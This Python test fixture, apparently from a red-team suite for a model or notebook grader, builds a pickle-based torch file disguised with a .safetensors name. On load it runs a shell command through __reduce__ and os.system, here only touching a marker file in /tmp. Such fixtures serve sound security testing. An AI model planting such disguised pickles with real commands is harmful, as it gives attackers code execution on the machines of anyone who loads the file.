"""A zip of torch.save that holds a pickle, named .safetensors.

class: weights
lab: handed
where: file
unsandboxed: yes
"""

import os

import torch
from torchgrade import notebook as nb


class Boom:
    def __reduce__(self):
        return os.system, ("touch /tmp/redteam-mark-torch",)


def build(honest, folder):
    nb.write(honest, folder / "handed.ipynb")
    (folder / "weights").mkdir()
    torch.save({"weight": Boom()}, folder / "weights" / "handed.safetensors")
    return folder
